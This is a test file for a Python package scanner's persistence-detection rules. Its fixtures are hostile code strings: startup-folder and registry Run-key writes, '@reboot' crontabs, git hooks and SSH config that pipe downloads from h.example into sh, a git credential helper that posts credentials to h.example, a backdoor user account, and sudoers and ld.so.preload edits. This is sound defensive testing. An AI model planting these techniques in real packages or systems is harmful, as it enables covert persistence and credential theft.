"""Persistence: writing to places that run code later, versus naming them."""

from __future__ import annotations

import pytest
from rulekit import ids, py, run, severities

from pipvet.analysis.rules import persistence
from pipvet.models import Severity, Stage

R = persistence.RULES


def test_copy_into_startup_folder_at_import_is_critical() -> None:
    bad = py(
        "import os, shutil, sys\n"
        "dst = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows',\n"
        "                   'Start Menu\\\\Programs\\\\Startup')\n"
        "shutil.copy(sys.argv[0], dst)\n"
    )
    found = run(R, bad)
    assert found
    assert found[0].severity is Severity.CRITICAL
    assert "startup folder" in found[0].message


def test_registry_run_key_write() -> None:
    bad = py(
        "import winreg\n"
        "RUN = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n"
        "k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, RUN, 0, winreg.KEY_SET_VALUE)\n"
        "winreg.SetValueEx(k, 'updater', 0, winreg.REG_SZ, 'C:\\\\x.exe')\n"
    )
    found = run(R, bad)
    assert found
    assert found[0].severity is Severity.CRITICAL
    assert "Run key" in found[0].message


def test_crontab_and_systemd() -> None:
    cron = py("import os\nos.system('(crontab -l; echo \"@reboot python3 /tmp/.x.py\") | crontab -')\n")
    assert "PV-PERSIST" in ids(run(R, cron))
    unit = py(
        "p = '/etc/systemd/system/sysmon.service'\n"
        "with open(p, 'w') as f:\n"
        "    f.write('[Service]\\nExecStart=/usr/bin/python3 /opt/x.py\\n')\n"
    )
    found = run(R, unit)
    assert found
    assert found[0].severity is Severity.CRITICAL


def test_crontab_as_a_command_versus_crontab_as_a_word_in_data() -> None:
    listed = py("import subprocess\nsubprocess.run(['crontab', path], check=True)\n")
    assert "PV-PERSIST" in ids(run(R, listed))
    schedule = py(
        "SCHEDULE = {'type': 'crontab', 'value': '0 * * * *'}\nKind = Literal['crontab', 'interval']\n"
    )
    assert run(R, schedule) == []


def test_a_win32_binding_defining_csidl_startup_is_no_target() -> None:
    binding = py("CSIDL_STARTUP = 0x0007\nCSIDL_DESKTOP = 0x0000\n")
    assert run(R, binding) == []
    used = py("import ctypes\npath = SHGetFolderPath(0, CSIDL_STARTUP, 0, 0)\n")
    assert "PV-PERSIST" in ids(run(R, used))


def test_shell_rc_append_at_install_versus_completion_helper_at_run_time() -> None:
    bad = py(
        "import os\n"
        "with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n"
        "    f.write('python3 -c \"import x\"\\n')\n",
        path="x-1.0/setup.py",
        stage=Stage.INSTALL,
    )
    found = run(R, bad)
    assert found
    assert found[0].severity is Severity.HIGH
    assert found[0].stage is Stage.INSTALL
    benign = py(
        "import os\n"
        "def install_completion(shell):\n"
        "    rc = os.path.expanduser('~/.bashrc')\n"
        "    with open(rc, 'a') as f:\n"
        "        f.write('eval \"$(_TOOL_COMPLETE=bash_source tool)\"\\n')\n"
    )
    found = run(R, benign)
    assert found
    assert found[0].stage is Stage.RUNTIME


def test_pth_written_into_site_packages_versus_mentioning_pth() -> None:
    bad = py(
        "import site\n"
        "path = site.getsitepackages()[0] + '/zz_init.pth'\n"
        "open(path, 'w').write('import os; os.system(\"curl x | sh\")')\n"
    )
    assert "PV-PERSIST" in ids(run(R, bad))
    benign = py("NAMESPACE_PTH = 'foo-nspkg.pth'\ndef skip(name):\n    return name.endswith('.pth')\n")
    assert run(R, benign) == []


def test_mentions_without_writes_are_weak() -> None:
    benign = py("DOC = 'shell completion goes in your .zshrc'\nprint(DOC)\n")
    found = run(R, benign)
    assert all(f.severity is Severity.LOW for f in found)


def test_persistence_inside_an_uncalled_function_is_high() -> None:
    code = (
        "import winreg\n"
        "def install_autostart(exe):\n"
        "    key = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n"
        "    k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, key)\n"
        "    winreg.SetValueEx(k, 'app', 0, winreg.REG_SZ, exe)\n"
    )
    found = run(R, py(code))
    assert found
    assert found[0].severity is Severity.HIGH
    assert found[0].stage is Stage.RUNTIME


def test_backdoor_account_at_install() -> None:
    bad = py(
        "import subprocess\n"
        "subprocess.check_output('net user /add support P4ssw0rd!', shell=True)\n"
        "subprocess.check_output('net localgroup \"Remote Desktop Users\" support /add', shell=True)\n",
        path="x-1.0/setup.py",
        stage=Stage.INSTALL,
    )
    found = run(R, bad)
    assert any("user account" in f.message for f in found)


def test_setup_forcing_a_browser_extension() -> None:
    bad = py(
        "import os\n"
        "ext = os.getenv('APPDATA') + '\\\\Extension'\n"
        "open(ext + '\\\\manifest.json', 'w+').write('{\"permissions\": [\"clipboardWrite\"]}')\n"
        "shortcut.Arguments = '--load-extension=' + ext\n",
        path="x-1.0/setup.py",
        stage=Stage.INSTALL,
    )
    found = run(R, bad)
    assert found
    assert found[0].severity is Severity.CRITICAL


def test_an_extension_passed_to_one_browser_launch_is_not_persistence() -> None:
    automation = py(
        "import json, subprocess\n"
        "def launch(chrome, profile, extensions):\n"
        "    json.dump({'exit_type': 'Normal'}, open(profile + '/Preferences', 'w'))\n"
        "    args = ['--enable-extensions', f'--load-extension={\",\".join(extensions)}']\n"
        "    return subprocess.Popen([chrome, *args])\n",
        path="acme/browser/profile.py",
        stage=Stage.RUNTIME,
    )
    assert "PV-PERSIST" not in ids(run(R, automation))


def test_a_wheel_builder_writing_a_pth_into_the_wheel_is_not_persistence() -> None:
    builder = py(
        "import os\n"
        "def write_pth(build_dir, name, src):\n"
        "    layout = {'purelib': name + '.data/purelib'}\n"
        "    with open(os.path.join(build_dir, name + '.pth'), 'w') as f:\n"
        "        f.write(src)\n",
        path="demo-1.0/src/demo/masonry/wheel.py",
        stage=Stage.INSTALL,
    )
    assert "PV-PERSIST" not in ids(run(R, builder))
    dropper = py(
        "import site\n"
        "def hook(code):\n"
        "    with open(site.getsitepackages()[0] + '/zz_boot.pth', 'w') as f:\n"
        "        f.write('import os; exec(code)')\n",
        stage=Stage.INSTALL,
    )
    assert "PV-PERSIST" in ids(run(R, dropper))


def test_a_cron_table_of_constants_is_not_an_import_time_install() -> None:
    """A cron library names '@reboot' in a module-level table and writes crontabs in methods
    its users call; a module that calls its writer on import installs itself."""
    library = (
        "import subprocess\n"
        "SPECIALS = {'reboot': '@reboot', 'hourly': '0 * * * *'}\n"
        "class CronTab:\n"
        "    def write(self, path):\n"
        "        with open(path, 'w') as fh:\n            fh.write(self.render())\n"
    )
    found = [f for f in run(R, py(library)) if f.rule == "PV-PERSIST"]
    assert [(f.severity, f.stage) for f in found] == [(Severity.HIGH, Stage.RUNTIME)]
    dropper = library + "CronTab().write('/etc/cron.d/updater')\n"
    found = [f for f in run(R, py(dropper)) if f.rule == "PV-PERSIST"]
    assert found[0].severity is Severity.CRITICAL
    assert found[0].stage is Stage.IMPORT


def test_persistence_places_in_a_scanners_regular_expressions_are_patterns() -> None:
    scanner = py(
        "import re\n"
        "RE_PERSIST = re.compile(\n"
        "    r'/etc/systemd/|systemctl\\s+(enable|start)|/Library/LaunchAgents|crontab\\s'\n"
        ")\n"
        "def scan(text, out):\n"
        "    open(out, 'w').write(str(RE_PERSIST.findall(text)))\n"
    )
    assert run(R, scanner) == []


def test_a_desktop_autostart_entry_written_at_import_is_critical() -> None:
    bad = py(
        "import os\n"
        "open(os.path.expanduser('~/.config/autostart/upd.desktop'), 'w')"
        ".write('[Desktop Entry]\\nExec=python3 -m demo\\n')\n"
    )
    found = run(R, bad)
    assert [(f.severity, f.stage) for f in found] == [(Severity.CRITICAL, Stage.IMPORT)]
    assert "autostart" in found[0].message
    on_request = py(
        "import os\n"
        "def start_at_login(enabled):\n"
        "    path = os.path.join(os.path.expanduser('~'), '.config', 'autostart', 'app.desktop')\n"
        "    if enabled:\n"
        "        open(path, 'w').write(ENTRY)\n",
        stage=Stage.RUNTIME,
    )
    assert [f.severity for f in run(R, on_request)] == [Severity.HIGH]


def test_a_cron_table_piped_into_crontab_is_a_write() -> None:
    bad = py(
        "import subprocess\n"
        "subprocess.run('(crontab -l; echo \"@reboot python3 -m demo\") | crontab -', shell=True)\n"
    )
    assert Severity.CRITICAL in [f.severity for f in run(R, bad)]
    listing = py("import subprocess\nsubprocess.run(['crontab', '-l'])\n")
    assert Severity.CRITICAL not in [f.severity for f in run(R, listing)]


def test_a_startup_folder_built_from_joined_parts_is_still_the_startup_folder() -> None:
    source = (
        "import os, shutil\n"
        "dst = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows',\n"
        "                   'Start Menu', 'Programs', 'Startup')\n"
        "shutil.copy(__file__, os.path.join(dst, 'upd.pyw'))\n"
    )
    found = [f for f in run(R, py(source, path="acme/__init__.py")) if f.rule == "PV-PERSIST"]
    assert [f.severity for f in found] == [Severity.CRITICAL]
    menu = "import os\nMENU = os.path.join('Start Menu', 'Programs', 'Acme')\n"
    assert "PV-PERSIST" not in ids(run(R, py(menu, path="acme/__init__.py")))


def test_a_script_dropped_into_the_ipython_startup_folder_is_persistence() -> None:
    source = (
        "import os\np = os.path.expanduser('~/.ipython/profile_default/startup/00-x.py')\n"
        "open(p, 'w').write('import os')\n"
    )
    found = [f for f in run(R, py(source, path="acme/__init__.py")) if f.rule == "PV-PERSIST"]
    assert [f.severity for f in found] == [Severity.CRITICAL]
    assert "PV-PERSIST" not in ids(
        run(R, py("HELP = 'see IPython docs on profiles'\n", path="acme/__init__.py"))
    )


def test_replacing_a_desktop_apps_own_code_is_injection() -> None:
    """Grabbers overwrite Discord's ``discord_desktop_core/index.js`` and wallet injectors the
    ``app.asar`` of Exodus or Atomic: the app then runs their script at every start."""
    inject = py(
        "import glob, os, urllib.request\n"
        "def _patch():\n"
        "    for res in glob.glob(os.path.join(os.getenv('LOCALAPPDATA'), 'exodus', 'app-*', 'resources')):\n"
        "        urllib.request.urlretrieve(SRC, os.path.join(res, 'app.asar'))\n"
        "def _discord(code):\n"
        "    with open(CORE + '/discord_desktop_core/index.js', 'w') as f:\n"
        "        f.write(code)\n",
        stage=Stage.RUNTIME,
    )
    found = [f for f in run(R, inject) if f.rule == "PV-PERSIST"]
    assert found
    assert all(f.severity is Severity.HIGH for f in found)
    assert "injection" in found[0].message
    # naming an Electron archive in a comment is no write
    assert run(R, py("# the app ships resources/app.asar\nVERSION = 1\n", stage=Stage.RUNTIME)) == []


def test_a_git_hook_planted_at_install_versus_a_hook_manager_at_run_time() -> None:
    """A hook in the user's repository runs at every checkout; written by setup.py with a
    download-and-run line it is a dropper that waits. A hook manager writes hooks on request."""
    planted = py(
        "import os\nhook = os.path.join(os.getcwd(), '.git', 'hooks', 'post-checkout')\n"
        "with open(hook, 'w') as f:\n    f.write('#!/bin/sh\\ncurl -s https://h.example/x | sh\\n')\n",
        path="x-1.0/setup.py",
        stage=Stage.INSTALL,
    )
    found = run(R, planted)
    assert [f.severity for f in found] == [Severity.CRITICAL]
    assert "git hook" in found[0].message
    manager = py(
        "import os\ndef install(repo, script):\n"
        "    with open(os.path.join(repo, '.git/hooks/pre-commit'), 'w') as f:\n        f.write(script)\n",
        stage=Stage.RUNTIME,
    )
    assert [f.severity for f in run(R, manager)] == [Severity.LOW]


def _install(source: str) -> list[Severity]:
    return severities(R, py(source, path="x-1.0/setup.py", stage=Stage.INSTALL), "PV-PERSIST")


def test_pip_configuration_rewritten_at_install_versus_a_mirror_switcher_on_request() -> None:
    """Every later install comes from the index a planted pip.conf names; mirror switchers
    write the same file when their user asks them to."""
    planted = _install(
        "import os\ncfg = os.path.expanduser('~/.config/pip/pip.conf')\n"
        "with open(cfg, 'w') as fh:\n    fh.write('[global]\\nindex-url = http://idx.example/simple\\n')\n"
    )
    assert planted == [Severity.CRITICAL]
    switcher = py(
        "import os\ndef use(url):\n    path = os.path.expanduser('~/.config/pip/pip.conf')\n"
        "    with open(path, 'w') as fh:\n        fh.write('[global]\\nindex-url = ' + url)\n",
        stage=Stage.RUNTIME,
    )
    assert severities(R, switcher, "PV-PERSIST") == [Severity.LOW]
    # reading pip's configuration, with a write elsewhere that has nothing to do with it
    reader = py(
        "import configparser, os\nCFG = configparser.ConfigParser()\n"
        "CFG.read(os.path.expanduser('~/.config/pip/pip.conf'))\n"
        "with open('report.txt', 'w') as fh:\n    fh.write(str(CFG.sections()))\n"
    )
    assert severities(R, reader, "PV-PERSIST") == []


def test_hosts_file_ssh_config_and_preload_list_written_at_install() -> None:
    assert _install("with open('/etc/hosts', 'a') as fh:\n    fh.write('203.0.113.9 idx.example\\n')\n") == [
        Severity.CRITICAL
    ]
    ssh = _install(
        "import os\nwith open(os.path.expanduser('~/.ssh/config'), 'a') as fh:\n"
        "    fh.write('Host *\\n    LocalCommand curl -s https://h.example/s | sh\\n')\n"
    )
    assert ssh == [Severity.CRITICAL]
    preload = _install(
        "with open('/etc/ld.so.preload', 'a') as fh:\n    fh.write('/usr/local/lib/libx.so\\n')\n"
    )
    assert preload == [Severity.CRITICAL]
    # an SSH library that only reads the client configuration
    paramiko_like = py(
        "import os\ndef load():\n    with open(os.path.expanduser('~/.ssh/config')) as fh:\n"
        "        return fh.read()\n"
        "def save(path, data):\n    with open(path, 'w') as fh:\n        fh.write(data)\n",
        stage=Stage.RUNTIME,
    )
    assert severities(R, paramiko_like, "PV-PERSIST") == []


def test_another_packages_code_a_planted_dll_and_a_fake_sudo_at_install() -> None:
    trojan = _install(
        "import os, site\n"
        "target = os.path.join(site.getsitepackages()[0], 'requests', '__init__.py')\n"
        "with open(target, 'a') as fh:\n    fh.write('import _hook\\n')\n"
    )
    assert trojan == [Severity.CRITICAL]
    dll = _install(
        "import os, shutil, sys\nhere = os.path.dirname(__file__)\n"
        "shutil.copy(os.path.join(here, 'version.dll'), os.path.join(sys.exec_prefix, 'version.dll'))\n"
    )
    assert dll == [Severity.CRITICAL]
    sudo = _install(
        "import os\nbindir = os.path.expanduser('~/.local/bin')\nshim = os.path.join(bindir, 'sudo')\n"
        "with open(shim, 'w') as fh:\n    fh.write('#!/bin/sh\\n')\nos.chmod(shim, 0o755)\n"
    )
    assert sudo == [Severity.CRITICAL]
    # finding System32 to start a program there is not planting anything in it
    runner = py(
        "import os, subprocess\n"
        "CMD = os.path.join(os.environ['SystemRoot'], 'Windows\\\\System32', 'cmd.exe')\n"
        "def run(args, log):\n    subprocess.run([CMD, '/c', *args])\n"
        "    with open(log, 'a') as fh:\n        fh.write(' '.join(args))\n",
        stage=Stage.RUNTIME,
    )
    assert severities(R, runner, "PV-PERSIST") == []


def test_git_global_configuration_that_runs_commands_set_at_install() -> None:
    helper = _install(
        "import subprocess\nsubprocess.run(['git', 'config', '--global', 'credential.helper', "
        "'!f() { cat | curl -s -d @- https://h.example/g; }; f'])\n"
    )
    assert helper == [Severity.CRITICAL]
    # a setup helper that configures git's identity and a cache helper when asked
    setup_tool = py(
        "import subprocess\ndef configure(name):\n"
        "    subprocess.run(['git', 'config', '--global', 'user.name', name])\n"
        "    subprocess.run(['git', 'config', '--global', 'credential.helper', 'cache'])\n",
        stage=Stage.RUNTIME,
    )
    assert severities(R, setup_tool, "PV-PERSIST") == [Severity.LOW]


@pytest.mark.parametrize(
    ("source", "place"),
    [
        (
            "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'config', 'set', "
            "'global.index-url', 'http://idx.example/simple'])\n",
            "pip index set by pip config",
        ),
        (
            "import subprocess\nsubprocess.run(['git', 'config', '--global', "
            "'url.http://git.example/gh/.insteadOf', 'https://code.example/'])\n",
            "git configuration",
        ),
        (
            "with open('/etc/resolv.conf', 'w') as fh:\n    fh.write('nameserver 203.0.113.9\\n')\n",
            "DNS resolver",
        ),
        (
            "with open('/etc/sudoers.d/99-x', 'w') as fh:\n    fh.write('me ALL=(ALL) NOPASSWD: ALL\\n')\n",
            "sudo",
        ),
        ("with open('/etc/rc.local', 'a') as fh:\n    fh.write('python3 -m x.agent &\\n')\n", "boot script"),
        ("with open('/etc/crontab', 'a') as fh:\n    fh.write('*/5 * * * * root python3 -m x\\n')\n", "cron"),
        (
            "import os\nwith open(os.path.expanduser('~/.condarc'), 'w') as fh:\n"
            "    fh.write('channels:\\n  - http://idx.example/conda\\n')\n",
            "pip or uv configuration",
        ),
    ],
)
def test_places_that_redirect_what_runs_next_written_at_install(source: str, place: str) -> None:
    found = [
        f for f in run(R, py(source, path="x-1.0/setup.py", stage=Stage.INSTALL)) if f.rule == "PV-PERSIST"
    ]
    assert [f.severity for f in found] == [Severity.CRITICAL]
    assert place in found[0].message


def test_powershell_and_fish_profiles_are_shell_start_up_files() -> None:
    for path in (
        "os.path.join(os.path.expanduser('~'), 'Documents', 'WindowsPowerShell', "
        "'Microsoft.PowerShell_profile.ps1')",
        "os.path.expanduser('~/.config/fish/config.fish')",
    ):
        source = (
            f"import os\nprof = {path}\nwith open(prof, 'a') as fh:\n    fh.write('python3 -m x.agent\\n')\n"
        )
        assert _install(source) == [Severity.HIGH], path


def test_a_boot_script_or_a_pip_mirror_written_on_request_is_low() -> None:
    """Service generators write init scripts, and mirror switchers set pip's index, when their
    user runs them; at install either hijacks what runs next (above)."""
    initd = py(
        "import os\ndef write_service(name, command):\n    path = os.path.join('/etc/init.d', name)\n"
        "    with open(path, 'w') as fh:\n        fh.write(command)\n",
        stage=Stage.RUNTIME,
    )
    assert severities(R, initd, "PV-PERSIST") == [Severity.LOW]
    mirror = py(
        "import subprocess, sys\ndef use(url):\n"
        "    subprocess.run([sys.executable, '-m', 'pip', 'config', 'set', 'global.index-url', url])\n",
        stage=Stage.RUNTIME,
    )
    assert severities(R, mirror, "PV-PERSIST") == [Severity.LOW]
    resolver = py(
        "def nameservers(path='/etc/resolv.conf'):\n"
        "    with open(path) as fh:\n        return fh.read().split()\n",
        stage=Stage.RUNTIME,
    )
    assert severities(R, resolver, "PV-PERSIST") == []


def test_services_wmi_subscriptions_and_login_items_created_as_the_package_loads() -> None:
    service = _install(
        "import subprocess, sys\n"
        "subprocess.run(f'sc create UpdSvc binPath= \"{sys.executable} agent.py\" start= auto', shell=True)\n"
    )
    assert service == [Severity.CRITICAL]
    wmi = py(
        "import subprocess\n"
        'PS = "Set-WmiInstance -Namespace root\\\\subscription -Class CommandLineEventConsumer '
        "-Arguments @{Name='u';CommandLineTemplate='pythonw -m x'}\"\n"
        "subprocess.run(['powershell', '-Command', PS])\n",
        path="acme/__init__.py",
    )
    assert severities(R, wmi, "PV-PERSIST") == [Severity.CRITICAL]
    login = py(
        "import subprocess\nsubprocess.run(['osascript', '-e', "
        '\'tell application "System Events" to make login item at end with properties {path:"/A.app"}\'])\n',
        path="acme/__init__.py",
    )
    assert severities(R, login, "PV-PERSIST") == [Severity.CRITICAL]
    # a service framework that registers the user's service when asked
    framework = py(
        "import subprocess, sys\ndef install(name, script):\n"
        "    subprocess.run(['sc', 'create', name, 'binPath=', f'{sys.executable} {script}'], check=True)\n",
        stage=Stage.RUNTIME,
    )
    assert severities(R, framework, "PV-PERSIST") == [Severity.LOW]
    # the CreateService action of a cloud API, and a binding's test of a login-item function
    cloud = py(
        "def create(client, spec, path):\n    client.post('/CreateService', json=spec)\n"
        "    open(path, 'w').write('ok')\n"
        "CHECKS = [CoreServices.LSSharedFileListInsertItemURL]\n",
        stage=Stage.RUNTIME,
    )
    assert severities(R, cloud, "PV-PERSIST") == []
